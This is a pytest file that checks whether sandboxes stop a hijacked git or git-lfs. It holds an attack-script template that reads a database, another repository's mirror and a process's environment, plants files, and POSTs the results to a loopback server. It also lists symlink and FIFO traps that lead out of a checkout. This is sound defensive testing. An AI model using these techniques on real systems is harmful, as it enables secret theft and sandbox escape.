"""git and `git lfs` in the sandbox: what a hostile one reaches, and what Planward does with what it leaves behind.

Each attack is a program on PATH in the place of git or git-lfs: as if what a repository contains had taken it over.
"""

import asyncio
import hashlib
import json
import os
import shutil
import subprocess
import tempfile
import textwrap
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread

import pytest

from ghapp.git import GitError, LargeFiles, Mirror, Mirrors, Remote, checkout, program
from ghapp.git.kept_checkouts import KeptCheckouts, NotTheTree, seal_of
from ghapp.git.large_files import Pointer
from ghapp.git.large_objects import LargeObjects
from ghapp.processes.bubblewrap import probe_bubblewrap
from ghapp.processes.by_uid import probe_uids, without_sandbox
from ghapp.processes.sandbox import HostPaths, Sandbox
from ghapp.values import TreeId
from tests.sandboxes import NO_BUBBLEWRAP, NO_UID, PYTHON

in_bubblewrap = pytest.mark.skipif(NO_BUBBLEWRAP is not None, reason=str(NO_BUBBLEWRAP))
by_uid = pytest.mark.skipif(NO_UID is not None, reason=str(NO_UID))
each_sandbox = pytest.mark.parametrize(
    "sandbox", [pytest.param("bubblewrap", marks=in_bubblewrap), pytest.param("uid", marks=by_uid), "none"]
)
needs_git_lfs = pytest.mark.skipif(shutil.which("git-lfs") is None, reason="git-lfs is not installed here")

TOKEN = "token-of-the-repository"
ATTRIBUTES = b"*.bin filter=lfs -text\n"
_GIT = shutil.which("git") or "git"


@pytest.fixture
def data() -> Iterator[Path]:
    """Planward's data directory, with a secret and another repository's mirror."""
    with tempfile.TemporaryDirectory(prefix="planward-") as made:
        Path(made).chmod(0o711)
        data = Path(made) / "data"
        (data / "mirrors/8.git").mkdir(mode=0o700, parents=True)
        data.chmod(0o700)
        (data / "mirrors").chmod(0o700)
        (data / "planward.db").write_text("everything that planward remembers")
        (data / "mirrors/8.git/HEAD").write_text("somebody else's code")
        yield data


def sandbox_called(name: str, data: Path) -> Sandbox:
    match name:
        case "bubblewrap":
            # Python, wherever it is installed, and a directory that the operator opens to root runs.
            return probe_bubblewrap(HostPaths(reads=(Path(PYTHON),), writes=(data / "states",)))
        case "uid":
            return probe_uids(data)
        case _:
            return without_sandbox(data)


def git(directory: Path, *words: str, stdin: bytes = b"") -> str:
    done = subprocess.run([_GIT, f"--git-dir={directory}", *words], input=stdin, check=True, capture_output=True)
    return done.stdout.decode().strip()


def mirror_with(data: Path, sandbox: str, files: dict[str, bytes], *, most_kept: int = 0) -> tuple[Mirror, TreeId]:
    """A mirror that has a tree of these files; a name may contain one slash."""
    bare = data / "mirrors/7.git"
    subprocess.run([_GIT, "init", "--quiet", "--bare", bare], check=True)
    return Mirror(
        bare,
        data / "mirrors/checkouts",
        KeptCheckouts(most=most_kept),
        sandbox=sandbox_called(sandbox, data),
    ), tree_of(bare, files)


def tree_of(bare: Path, files: dict[str, bytes]) -> TreeId:
    lines: dict[str, list[str]] = {"": []}
    for name, content in files.items():
        directory, _, name = name.rpartition("/")
        blob = git(bare, "hash-object", "-w", "--stdin", stdin=content)
        lines.setdefault(directory, []).append(f"100644 blob {blob}\t{name}\n")
    top = lines.pop("")
    for directory, below in lines.items():
        top.append(f"040000 tree {git(bare, 'mktree', stdin=''.join(below).encode())}\t{directory}\n")
    return TreeId(git(bare, "mktree", stdin="".join(top).encode()))


def pointer_to(content: bytes) -> bytes:
    oid = hashlib.sha256(content).hexdigest()
    return f"version https://git-lfs.github.com/spec/v1\noid sha256:{oid}\nsize {len(content)}\n".encode()


class LargeFileServer:
    """Git LFS' batch API on loopback, and a place for reports; `asked` are (path, Authorization)."""

    def __init__(self) -> None:
        self.objects: dict[str, bytes] = {}
        self.asked: list[tuple[str, str | None]] = []
        self.reports: list[dict[str, object]] = []
        self.url = ""


@pytest.fixture
def server() -> Iterator[LargeFileServer]:
    state = LargeFileServer()

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            if self.path == "/report":
                state.reports.append(body)
                return self._answer(b"{}")
            state.asked.append((self.path, self.headers.get("Authorization")))
            objects = [
                {
                    "oid": each["oid"],
                    "size": each["size"],
                    "authenticated": True,
                    **(
                        {"actions": {"download": {"href": f"{state.url}/objects/{each['oid']}"}}}
                        if each["oid"] in state.objects
                        else {"error": {"code": 404, "message": "Object does not exist on the server"}}
                    ),
                }
                for each in body["objects"]
            ]
            return self._answer(json.dumps({"transfer": "basic", "objects": objects}).encode())

        def do_GET(self) -> None:
            state.asked.append((self.path, self.headers.get("Authorization")))
            self._answer(state.objects[self.path.rpartition("/")[2]])

        def _answer(self, content: bytes) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "application/vnd.git-lfs+json")
            self.send_header("Content-Length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)

        def log_message(self, *_: object) -> None:
            pass

    listening = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    state.url = f"http://127.0.0.1:{listening.server_port}"
    thread = Thread(target=listening.serve_forever, daemon=True)
    thread.start()
    try:
        yield state
    finally:
        listening.shutdown()
        listening.server_close()
        thread.join()


def environment_for(server: LargeFileServer) -> dict[str, str]:
    """What Planward gives `git lfs`."""
    remote = Remote(repository_id=7, clone_url=f"{server.url}/infra.git", token=TOKEN)
    return Mirrors(Path("nowhere"), allowed_host=server.url.removeprefix("http://")).large_files_environment(remote)


def laid_out(mirror: Mirror, tree: TreeId, large_files: LargeFiles | None = None) -> dict[str, bytes]:
    """Check a tree out; returns its files."""

    async def files() -> dict[str, bytes]:
        async with mirror.checkout(tree, large_files) as directory:
            paths = [path for path in directory.rglob("*") if path.is_file()]
            return {str(path.relative_to(directory)): path.read_bytes() for path in paths}

    return asyncio.run(files())


ATTACK = """\
#!@PYTHON@ -IS
import json, os, sys, urllib.request
DATA = "@DATA@"

def tried(attack):
    try:
        return attack()
    except OSError:
        return None

def plant(path):
    open(path, "w").close()

def report():
    said = {
        "the database": tried(lambda: open(f"{DATA}/planward.db").read()),
        "another mirror": tried(lambda: open(f"{DATA}/mirrors/8.git/HEAD").read()),
        "the list of mirrors": tried(lambda: "8.git" in os.listdir(f"{DATA}/mirrors")),
        "planward's environment": tried(lambda: open("/proc/@VICTIM@/environ").read()) and True,
    }
    for place in ("mirrors/7.git", "mirrors/7.git/objects", "states"):
        tried(lambda: plant(f"{DATA}/{place}/planted"))
    said["variables"] = sorted(os.environ)
    body = json.dumps(said).encode()
    urllib.request.urlopen(urllib.request.Request("@URL@/report", body, method="POST")).close()
"""


@contextmanager
def shim(
    name: str, script: str, data: Path, server: LargeFileServer, monkeypatch: pytest.MonkeyPatch
) -> Iterator[None]:
    """Put a program first on PATH, beside the real one."""
    directory = data.parent / "programs"
    directory.mkdir(mode=0o755, exist_ok=True)
    (data / "states").mkdir(mode=0o700, exist_ok=True)
    text = ATTACK + textwrap.dedent(script)
    for key, value in (
        ("@PYTHON@", PYTHON),
        ("@DATA@", str(data)),
        ("@URL@", server.url),
        ("@VICTIM@", str(os.getpid())),
        ("@GIT@", _GIT),
    ):
        text = text.replace(key, value)
    (directory / name).write_text(text)
    (directory / name).chmod(0o755)
    with monkeypatch.context() as patch:
        patch.setenv("PATH", f"{directory}:{os.environ['PATH']}")
        patch.setenv("HTTPS_PROXY", "http://user:password@proxy.example:3128")
        patch.setenv("PLANWARD_WEBHOOK_SECRET", "hunter2")
        yield


def reached(report: dict[str, object], data: Path) -> set[str]:
    """What an attack has read, and where it has written."""
    read = {name for name, found in report.items() if found and name != "variables"}
    return read | {f"writes into {path.parent.relative_to(data)}" for path in data.rglob("planted")}


EVERYTHING = {
    "the database",
    "another mirror",
    "the list of mirrors",
    "planward's environment",
    "writes into mirrors/7.git",
    "writes into mirrors/7.git/objects",
    "writes into states",
}


@each_sandbox
def test_a_git_lfs_that_was_taken_over_reaches_nothing_but_its_own_directory_and_the_network(
    sandbox: str, data: Path, server: LargeFileServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    mirror, tree = mirror_with(data, sandbox, {".gitattributes": ATTRIBUTES, "a.bin": pointer_to(b"contents")})
    with shim("git-lfs", "report()", data, server, monkeypatch), pytest.raises(GitError, match=r"^a\.bin is kept in"):
        laid_out(mirror, tree, LargeFiles(read=("a.bin",), environ=environment_for(server)))
    [report] = server.reports
    assert reached(report, data) == (EVERYTHING if sandbox == "none" else set())
    assert "PLANWARD_WEBHOOK_SECRET" not in report["variables"]  # type: ignore[operator]


@pytest.mark.parametrize("sandbox", [pytest.param("bubblewrap", marks=in_bubblewrap), "none"])
def test_a_git_that_is_taken_over_by_a_tree_reaches_nothing_but_its_checkout_and_the_objects(
    sandbox: str, data: Path, server: LargeFileServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    mirror, tree = mirror_with(data, sandbox, {"a.tf": b"1"})
    script = """
    if "read-tree" in sys.argv:
        report()
    os.execv("@GIT@", ["git", *sys.argv[1:]])
    """
    with shim("git", script, data, server, monkeypatch):
        assert laid_out(mirror, tree) == {"a.tf": b"1"}
    [report] = server.reports
    assert reached(report, data) == (EVERYTHING if sandbox == "none" else set())
    assert {"PLANWARD_WEBHOOK_SECRET", "HTTPS_PROXY"}.isdisjoint(report["variables"])  # type: ignore[arg-type]


TRAPS = {
    "a directory that leads out": "os.rename('net', '../net'); os.symlink('@DATA@/outside', 'net')",
    "a checkout that leads out": "os.rename('../tree', '../other'); os.symlink('@DATA@/outside', '../tree')",
    "a symlink that no tree has": "os.symlink('@DATA@/outside', 'extra')",
    "a symlink for a file": "os.unlink('a.bin'); os.symlink('@DATA@/outside/a.bin', 'a.bin')",
    "a file that no tree has": "open('extra', 'w').close()",
    "a pipe for a file": "os.unlink('a.bin'); os.mkfifo('a.bin')",
    "an index that leads out": "os.unlink('../index'); os.symlink('@DATA@/planward.db', '../index')",
    "an index that is a pipe": "os.unlink('../index'); os.mkfifo('../index')",
}


def trapping(trap: str) -> str:
    """A git that leaves a trap after it has written a tree."""
    return f"""
    import subprocess
    ended = subprocess.run(["@GIT@", *sys.argv[1:]])
    if "read-tree" in sys.argv:
        {TRAPS[trap]}
    sys.exit(ended.returncode)
    """


@in_bubblewrap
@pytest.mark.parametrize("trap", TRAPS)
def test_what_a_git_that_was_taken_over_leaves_behind_leads_planward_nowhere(
    trap: str, data: Path, server: LargeFileServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    content = pointer_to(b"contents")
    files = {".gitattributes": ATTRIBUTES, "a.bin": content, "net/b.bin": content}
    mirror, tree = mirror_with(data, "bubblewrap", files)
    outside = data / "outside"
    outside.mkdir()
    for name in ("a.bin", "b.bin"):
        (outside / name).write_bytes(content)
    unread = LargeFiles(unread=("a.bin", "net/b.bin"))
    not_laid_out = pytest.raises(GitError, match=r"^the commit could not be laid out on disk")
    with shim("git", trapping(trap), data, server, monkeypatch), not_laid_out:
        laid_out(mirror, tree, unread)
    assert {path.name: path.read_bytes() for path in outside.iterdir()} == {"a.bin": content, "b.bin": content}
    assert (data / "planward.db").read_text() == "everything that planward remembers"
    assert laid_out(mirror, tree, unread) == {".gitattributes": ATTRIBUTES}


@in_bubblewrap
def test_without_the_comparison_with_the_tree_planward_would_remove_a_file_outside_of_the_checkout(
    data: Path, server: LargeFileServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def not_compared(_: object) -> bool:
        return True

    mirror, tree = mirror_with(data, "bubblewrap", {"net/b.bin": b"x"})
    (data / "outside").mkdir()
    (data / "outside/b.bin").write_bytes(b"x")
    monkeypatch.setattr(checkout._Checkout, "_is_only_the_tree", not_compared)
    with shim("git", trapping("a directory that leads out"), data, server, monkeypatch):
        laid_out(mirror, tree, LargeFiles(unread=("net/b.bin",)))
    assert list((data / "outside").iterdir()) == []


@in_bubblewrap
def test_a_checkout_in_the_sandbox_is_kept_and_its_files_are_not_written_again(data: Path) -> None:
    mirror, first = mirror_with(data, "bubblewrap", {"a.tf": b"1", "net/main.tf": b"x"}, most_kept=1)
    second = tree_of(mirror.path, {"a.tf": b"2", "net/main.tf": b"x"})

    async def seen(tree: TreeId, damage: Callable[[Path], object] = lambda _: None) -> tuple[bytes, int]:
        async with mirror.checkout(tree) as directory:
            found = (directory / "a.tf").read_bytes(), (directory / "net/main.tf").stat().st_ino
            damage(directory)
            return found

    def change(directory: Path) -> None:
        (directory / "a.tf").write_bytes(b"evil")
        (directory / "extra").symlink_to("/etc")

    (one, inode), (two, same), (again, still) = (
        asyncio.run(seen(first, change)),
        asyncio.run(seen(second, change)),
        asyncio.run(seen(second)),
    )
    assert (one, two, again) == (b"1", b"2", b"2")
    assert inode == same == still


@each_sandbox
@needs_git_lfs
def test_large_files_are_fetched_once_and_the_mirror_gets_them_from_planward(
    sandbox: str, data: Path, server: LargeFileServer
) -> None:
    contents = {f"{number}.bin": b"contents %d" % number for number in range(12)}
    server.objects = {hashlib.sha256(each).hexdigest(): each for each in contents.values()}
    config = f'[lfs]\n\turl = "{server.url}/elsewhere"\n'.encode()
    files = {name: pointer_to(content) for name, content in contents.items()}
    mirror, tree = mirror_with(data, sandbox, {".gitattributes": ATTRIBUTES, ".lfsconfig": config, **files})
    large_files = LargeFiles(read=tuple(contents), environ=environment_for(server))
    expected = {".gitattributes": ATTRIBUTES, ".lfsconfig": config, **contents}
    assert laid_out(mirror, tree, large_files) == expected
    paths = [path for path, _ in server.asked]
    assert {path for path in paths if path.endswith("batch")} == {"/infra.git/info/lfs/objects/batch"}
    assert len(set(paths)) == 1 + len(contents)
    asked = len(server.asked)
    assert laid_out(mirror, tree, large_files) == expected
    assert len(server.asked) == asked
    kept = {path.name: path for path in (mirror.path / "lfs").rglob("*") if path.is_file()}
    assert {name: path.read_bytes() for name, path in kept.items()} == server.objects
    assert {(path.stat().st_uid, path.stat().st_nlink) for path in kept.values()} == {(os.geteuid(), 1)}
    assert list((data / "mirrors/checkouts").glob("checkout-*")) == []


@each_sandbox
@needs_git_lfs
def test_one_object_that_is_missing_fails_the_run_and_names_its_file(
    sandbox: str, data: Path, server: LargeFileServer
) -> None:
    server.objects = {hashlib.sha256(b"here").hexdigest(): b"here"}
    files = {".gitattributes": ATTRIBUTES, "a.bin": pointer_to(b"here"), "b.bin": pointer_to(b"gone")}
    mirror, tree = mirror_with(data, sandbox, files)
    with pytest.raises(GitError, match=r"^b\.bin is kept in Git LFS, and its contents could not be fetched"):
        laid_out(mirror, tree, LargeFiles(read=("a.bin", "b.bin"), environ=environment_for(server)))


def test_only_a_file_with_the_pointers_sha_256_becomes_an_object_of_the_mirror(tmp_path: Path) -> None:
    objects = LargeObjects(tmp_path / "7.git")
    content = b"contents"
    pointer = Pointer(oid=hashlib.sha256(content).hexdigest(), size_bytes=len(content), content=b"")
    (tmp_path / "right").write_bytes(content)
    (tmp_path / "other").write_bytes(b"CONTENTS")
    (tmp_path / "longer").write_bytes(content + b"!")
    (tmp_path / "link").symlink_to("right")
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "directory").mkdir()
    wrong = ("other", "longer", "link", "pipe", "directory", "missing")
    assert [name for name in wrong if objects.keep(pointer, tmp_path / name)] == []
    assert [path for path in (tmp_path / "7.git").rglob("*") if path.is_file()] == []
    assert not objects.has(pointer)
    assert objects.keep(pointer, tmp_path / "right")
    assert objects.has(pointer)


def test_an_index_that_git_would_not_have_written_has_no_seal(tmp_path: Path) -> None:
    (tmp_path / "link").symlink_to("/dev/zero")
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "directory").mkdir()
    with (tmp_path / "large").open("wb") as file:
        file.truncate(2_000_000_000)
    for name in ("link", "pipe", "directory", "large"):
        with pytest.raises(NotTheTree):
            seal_of(tmp_path / name)


def test_proxies_and_ca_files_are_only_in_the_environment_of_a_git_that_uses_the_network(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("HTTPS_PROXY", "http://proxy.example:3128")
    monkeypatch.setenv("SSL_CERT_FILE", "/etc/ssl/own.pem")
    names = {"HTTPS_PROXY", "SSL_CERT_FILE"}
    assert names.isdisjoint(program.environment())
    assert names <= program.environment(uses_network=True).keys()
    assert Path("/etc/ssl/own.pem") in program.ca_files()
